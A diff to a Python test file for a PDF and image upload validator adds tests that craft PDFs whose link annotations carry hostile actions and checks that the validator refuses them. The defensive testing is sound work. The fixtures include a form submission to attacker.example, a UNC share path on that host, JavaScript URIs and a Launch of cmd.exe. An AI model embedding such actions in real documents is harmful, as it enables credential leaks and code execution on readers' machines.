@@ -82,6 +82,7 @@ def test_decompression_bomb_is_refused_quickly(width, height):
     assert time.perf_counter() - started < 0.5
 
 
+@pytest.mark.django_db  # 18 MB decoded: a heavy image waits for a decoding slot, a PostgreSQL lock
 def test_a_real_photo_is_scaled_down_and_keeps_its_type():
     stored = validate_upload(upload("lon.png", png_bytes(size=(3000, 1500))))
     with Image.open(io.BytesIO(stored.content.read())) as image:
@@ -190,6 +191,38 @@ def test_pdfs_with_active_content_are_refused(configure, object_streams):
     mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
     data = pdf_bytes(configure, object_stream_mode=mode)
     assert refusal("bien-ban.pdf", data) == "pdf_active_content"
+
+
+def _link(action):
+    def configure(document):
+        link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 10, 10], A=action)
+        document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])
+
+    return configure
+
+
+UNC = pikepdf.String("\\\\attacker.example\\share\\bien-ban.pdf")
+LINK_ACTIONS = {
+    "uri-javascript": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:app.alert(1)")),
+    "uri-javascript-spaced": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(" JavaScript :alert(1)")),
+    "uri-file": pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///C:/Windows/System32/cmd.exe")),
+    "submit-form": pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/")),
+    "goto-remote-unc": pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=UNC, D=pikepdf.Array([0, pikepdf.Name.Fit])),
+    "goto-embedded": pikepdf.Dictionary(S=pikepdf.Name.GoToE, NewWindow=True),
+    "import-data": pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=UNC),
+    "launch": pikepdf.Dictionary(S=pikepdf.Name.Launch, Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))),
+}
+
+
+@pytest.mark.parametrize("action", LINK_ACTIONS.values(), ids=LINK_ACTIONS.keys())
+def test_pdf_link_actions_that_run_send_or_open_elsewhere_are_refused(action):
+    assert refusal("bien-ban.pdf", pdf_bytes(_link(action))) == "pdf_active_content"
+
+
+@pytest.mark.parametrize("target", ["https://danang.gov.vn/nghi-quyet", "http://example.vn", "mailto:vp@danang.gov.vn"])
+def test_pdf_links_to_web_pages_and_mail_are_kept(target):
+    data = pdf_bytes(_link(pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(target))))
+    assert validate_upload(upload("bien-ban.pdf", data)).content.read() == data
 
 
 def test_an_obfuscated_name_is_still_found():
